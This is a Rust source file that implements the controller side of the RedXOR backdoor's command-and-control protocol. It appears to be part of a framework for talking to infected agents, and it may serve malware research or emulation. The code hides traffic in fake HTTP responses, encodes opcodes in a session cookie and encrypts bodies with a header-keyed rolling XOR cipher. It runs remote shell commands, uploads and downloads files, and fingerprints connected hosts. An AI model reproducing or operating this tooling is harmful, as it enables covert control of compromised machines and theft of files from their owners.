use crate::hexdump::hexdump;
use crate::protocol::http::{read_request, HttpError, Request};
use crate::protocol::{ByteQueue, Delegate, DelegateCell};
use log::{debug, info, warn};
use sha2::{Digest, Sha256};
use std::fs::File;
use std::io::{Read, Write};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, Once};
use std::thread;

const OP_HOST_INFO: &str = "0000";
const OP_HOST_INFO_RESP: &str = "0001";
const OP_DOWNLOAD: &str = "2054";
const OP_UPLOAD_START: &str = "2055";
const OP_UPLOAD_DATA: &str = "2066";
const OP_DOWNLOAD_DONE: &str = "2088";
const OP_SHELL_START: &str = "3000";
const OP_SHELL_EXEC: &str = "3058";
const OP_SHELL_STOP: &str = "3999";

const UPLOAD_CHUNK_SIZE: usize = 0x1000;

/// RedXOR protocol handler. Traffic rides fake HTTP exchanges: the
/// JSESSIONID cookie carries the opcode, while the Content-Length and
/// Total-Length header values double as the XOR key and per-byte
/// additive step for the body cipher.
pub struct Handler {
    inner: Arc<Inner>,
    decoder: Once,
}

struct Inner {
    delegate: DelegateCell,
    queue: ByteQueue,
    shell_started: AtomicBool,
    transfer: Mutex<Transfer>,
}

#[derive(Default)]
struct Transfer {
    file: Option<File>,
    file_size: u64,
}

impl Handler {
    pub fn new() -> Self {
        Handler {
            inner: Arc::new(Inner {
                delegate: DelegateCell::new(),
                queue: ByteQueue::new(),
                shell_started: AtomicBool::new(false),
                transfer: Mutex::new(Transfer::default()),
            }),
            decoder: Once::new(),
        }
    }
}

impl Default for Handler {
    fn default() -> Self {
        Handler::new()
    }
}

impl crate::protocol::Handler for Handler {
    fn needs_tls(&self) -> bool {
        false
    }

    fn set_delegate(&self, delegate: Arc<dyn Delegate>) {
        self.inner.delegate.set(delegate);
    }

    fn accept(&self) {}

    fn receive_data(&self, data: &[u8]) {
        debug!("received\n{}", hexdump(data));

        let inner = Arc::clone(&self.inner);
        self.decoder.call_once(move || {
            thread::spawn(move || inner.process_data());
        });

        self.inner.queue.put(data);
    }

    fn execute(&self, name: &str, args: &[String]) {
        if !self.inner.shell_started.swap(true, Ordering::SeqCst) {
            self.inner.send_command(OP_SHELL_START, 0, 0, &[]);
        }

        let command_line = format!("{} {}", name, args.join(" ")).trim().to_string();
        self.inner.send_command(
            OP_SHELL_EXEC,
            command_line.len(),
            command_line.len(),
            command_line.as_bytes(),
        );
    }

    fn upload(&self, source: &str, destination: &str) {
        let file = match File::open(source) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening source file: {e}");
                return;
            }
        };

        let file_size = match file.metadata() {
            Ok(m) => m.len(),
            Err(e) => {
                warn!("Error opening source file: {e}");
                return;
            }
        };

        {
            let mut transfer = self.inner.transfer.lock().unwrap();
            transfer.file = Some(file);
            transfer.file_size = file_size;
        }

        let data = format!("{destination}#0");
        self.inner
            .send_command(OP_UPLOAD_START, data.len(), data.len(), data.as_bytes());
    }

    fn download(&self, source: &str, destination: &str) {
        let file = match File::create(destination) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening destination file: {e}");
                return;
            }
        };

        {
            let mut transfer = self.inner.transfer.lock().unwrap();
            transfer.file = Some(file);
            transfer.file_size = 0;
        }

        let data = format!("{source}#0");
        self.inner
            .send_command(OP_DOWNLOAD, data.len(), data.len(), data.as_bytes());
    }

    fn close(&self) {
        self.inner.send_command(OP_SHELL_STOP, 0, 0, &[]);
        self.inner.shell_started.store(false, Ordering::SeqCst);

        self.inner.transfer.lock().unwrap().file = None;
        self.inner.queue.close();
    }
}

impl Inner {
    fn process_data(&self) {
        loop {
            let request = match read_request(&self.queue) {
                Ok(r) => r,
                Err(HttpError::Closed(_)) => return,
                Err(e) => {
                    warn!("redxor error reading request: {e}");
                    self.delegate.get().close_connection();
                    return;
                }
            };

            if self.process_request(&request).is_none() {
                self.delegate.get().close_connection();
                return;
            }
        }
    }

    /// Returns None on protocol violations that must end the
    /// connection: a missing session cookie or unusable cipher headers.
    fn process_request(&self, request: &Request) -> Option<()> {
        let opcode = request.cookie("JSESSIONID")?;
        let content_length = request.header("Content-Length").unwrap_or_default().to_string();
        let total_length = request.header("Total-Length").unwrap_or_default().to_string();

        debug!("JSESSIONID: {opcode}\nContent-Length: {content_length}\nTotal-Length: {total_length}");

        let key: u64 = content_length.trim().parse().ok()?;
        let adder: u64 = total_length.trim().parse().ok()?;

        let body = cipher(&request.body, key as u8, adder as u8);

        debug!("body\n{}", hexdump(&body));

        match opcode.as_str() {
            OP_HOST_INFO => {
                self.send_command(OP_HOST_INFO, 9, 9, b"all right");
            }
            OP_HOST_INFO_RESP => {
                let id = hex::encode(Sha256::digest(&body));
                self.delegate.get().agent_connected(&id);
            }
            OP_SHELL_EXEC => {
                info!("{}", String::from_utf8_lossy(&body));
            }
            OP_DOWNLOAD => {
                let mut transfer = self.transfer.lock().unwrap();
                if let Some(file) = transfer.file.as_mut() {
                    if let Err(e) = file.write_all(&body) {
                        warn!("Error writing destination file: {e}");
                    }
                }
            }
            OP_DOWNLOAD_DONE => {
                let mut transfer = self.transfer.lock().unwrap();
                transfer.file = None;
                transfer.file_size = 0;

                info!("Download complete");
            }
            OP_UPLOAD_START => {
                self.stream_upload();
                info!("Upload complete");
            }
            _ => {}
        }

        Some(())
    }

    fn stream_upload(&self) {
        let mut buf = vec![0u8; UPLOAD_CHUNK_SIZE];

        loop {
            let (bytes_read, file_size) = {
                let mut transfer = self.transfer.lock().unwrap();
                let file_size = transfer.file_size;
                match transfer.file.as_mut() {
                    Some(file) => match file.read(&mut buf) {
                        Ok(0) => break,
                        Ok(n) => (n, file_size),
                        Err(e) => {
                            warn!("Error reading source file: {e}");
                            break;
                        }
                    },
                    None => break,
                }
            };

            self.send_command(OP_UPLOAD_DATA, bytes_read, file_size as usize, &buf[..bytes_read]);
        }

        let mut transfer = self.transfer.lock().unwrap();
        transfer.file = None;
        transfer.file_size = 0;
    }

    fn send_command(&self, opcode: &str, content_length: usize, total_length: usize, data: &[u8]) {
        let encrypted = cipher(data, content_length as u8, total_length as u8);

        let header = format!(
            "HTTP/1.1 200 OK\r\n\
Set-Cookie: JSESSIONID={opcode}\r\n\
Content-Type: text/html\r\n\
Content-Length: {content_length:010}\r\n\
Total-Length: {total_length:010}\r\n\
\r\n"
        );

        self.delegate.get().send_data(header.as_bytes());
        self.delegate.get().send_data(&encrypted);
    }
}

/// Additive XOR stream: each byte is XORed with the running key, which
/// steps by the adder after every byte.
fn cipher(input: &[u8], key: u8, adder: u8) -> Vec<u8> {
    let mut output = Vec::with_capacity(input.len());
    let mut key = key;

    for &b in input {
        output.push(b ^ key);
        key = key.wrapping_add(adder);
    }

    output
}
